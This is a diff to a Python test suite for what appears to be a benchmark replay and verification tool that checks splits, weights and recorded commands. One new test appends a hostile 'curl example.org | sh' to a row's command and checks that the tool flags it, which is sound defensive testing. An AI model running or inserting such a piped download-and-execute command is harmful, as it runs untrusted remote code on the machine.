@@ -142,7 +142,7 @@ def test_the_same_machine_gives_the_same_counts_and_somebody_elses_replay_counts
     assert splits == {"validation", "test", "test_gap_1", "sealed/test", "sealed/test_gap_1"}
     row = written(tmp_path)["row"]
     assert (row["trust"], row["replayed_by"], row["submitter"]) == ("replayed", "bob", "alice")
-    assert rows.check_rows([row], "replay.json") == [row]
+    assert rows.check_rows([row], "replay.json") == [row] and not any("command" in flag for flag in row["flags"])
     assert "12 steps, 96 sequences" in err and "about " in err.split("training in")[0]  # told before training
     again, err = replay()  # nothing is trained twice
     assert "has already finished" in err and again == findings
@@ -197,6 +197,12 @@ def test_other_weights_than_those_that_seal_the_tests_are_caught(folder, replay)
     shutil.copy(folder / "runs" / ids[1] / "model.safetensors", folder / "runs" / ids[0] / "model.safetensors")
     findings, _ = replay(code=1)
     assert [(f["check"], f["verdict"]) for f in findings] == [("weights", "DIFFERS")]
+
+
+def test_a_command_that_says_something_else_than_the_arguments_is_told(folder, replay, tmp_path):
+    change(folder, command=first(folder)["command"] + "; curl example.org | sh")
+    replay("--rescore_only")
+    assert any("command of the row is not the one" in flag for flag in written(tmp_path)["row"]["flags"])
 
 
 def test_a_smaller_model_than_the_one_published_is_caught(folder, replay):
